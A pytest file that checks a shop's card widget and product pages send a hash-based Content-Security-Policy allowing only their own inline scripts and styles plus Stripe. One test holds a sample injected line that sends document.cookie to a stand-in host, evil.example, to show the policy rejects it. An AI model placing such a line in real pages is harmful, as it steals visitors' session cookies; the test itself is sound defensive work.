"""The card, the product page and the shop run only their own inline code: a CSP that allows each
of their inline scripts and styles by its SHA-256, and nothing inline besides. Unlike a nonce, a
hash is the same for every copy of the page, so CloudFront can keep it (test_cache_headers.py)."""
import base64
import hashlib
import re

import pytest
from fixtures import create_card


def sha256(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def directive(policy: str, name: str) -> list[str]:
    [found] = [part.split()[1:] for part in policy.split(";") if part.split()[:1] == [name]]
    return found


def inline(page: str, tag: str) -> list[str]:
    """The bodies of the page's inline elements that run: <script> without type, every <style>."""
    return [body for attributes, body in re.findall(rf"<{tag}([^>]*)>(.*?)</{tag}>", page, re.S)
            if "type=" not in attributes]


def test_the_widget_allows_its_own_scripts_and_styles_by_hash_and_stripe_only(client, make_card):
    card = make_card(stock=3)
    first = client.http.get(f"/cards/{card.card_id}/widget")
    second = client.http.get(f"/cards/{card.card_id}/widget")

    policy, page = first.headers["Content-Security-Policy"], first.body.decode()
    scripts, styles = inline(page, "script"), inline(page, "style")
    assert len(scripts) == 2 and styles  # card_live.js and card.js; card.css
    assert directive(policy, "script-src") == [*map(sha256, scripts), "https://js.stripe.com", "https://*.js.stripe.com"]
    assert directive(policy, "style-src") == list(map(sha256, styles))
    assert "default-src 'none'" in policy and "'unsafe-inline'" not in policy and "nonce-" not in policy
    assert "nonce=" not in page
    assert (second.headers["Content-Security-Policy"], second.body) == (policy, first.body), "one page, one policy"


def test_a_script_injected_into_the_page_would_not_match_any_hash(client, make_card):
    card = make_card(stock=3)
    response = client.http.get(f"/cards/{card.card_id}/widget")
    allowed = directive(response.headers["Content-Security-Policy"], "script-src")
    [own, *_] = inline(response.body.decode(), "script")

    assert sha256(own) in allowed
    assert sha256(own + "\nfetch('https://evil.example/?' + document.cookie);") not in allowed


def test_the_card_that_ships_goods_allows_its_address_form_script_and_style(client, seller):
    card = create_card(client, seller, shipping={"required": True, "countries": ["FR"], "fee": {"amount": 500}})
    response = client.http.get(f"/cards/{card['id']}/widget?sheet=test")
    page, policy = response.body.decode(), response.headers["Content-Security-Policy"]

    assert len(inline(page, "script")) == 3  # card_shipping.js too
    assert set(map(sha256, inline(page, "script"))) <= set(directive(policy, "script-src"))
    assert set(map(sha256, inline(page, "style"))) == set(directive(policy, "style-src"))


@pytest.mark.parametrize("accent", ["0a84ff", "1d3557"])
def test_the_sellers_accent_gets_its_own_style_hash(client, make_card, accent):
    card = make_card(stock=3)
    response = client.http.get(f"/cards/{card.card_id}/widget?accent={accent}")
    styles = inline(response.body.decode(), "style")

    assert any(f"--tc-accent:#{accent}" in style for style in styles)
    assert directive(response.headers["Content-Security-Policy"], "style-src") == list(map(sha256, styles))


def test_the_product_page_has_a_policy_too(client, make_card):
    card = make_card(stock=3)
    response = client.http.get(f"/p/{card.card_id}")
    policy = response.headers["Content-Security-Policy"]

    assert directive(policy, "style-src") == list(map(sha256, inline(response.body.decode(), "style")))
    assert "script-src" not in policy  # its JSON-LD is data, not code


def test_the_not_available_card_runs_only_its_own_script(client):
    response = client.http.get("/cards/card_doesnotexist/widget")
    [script] = inline(response.body.decode(), "script")

    assert directive(response.headers["Content-Security-Policy"], "script-src")[0] == sha256(script)
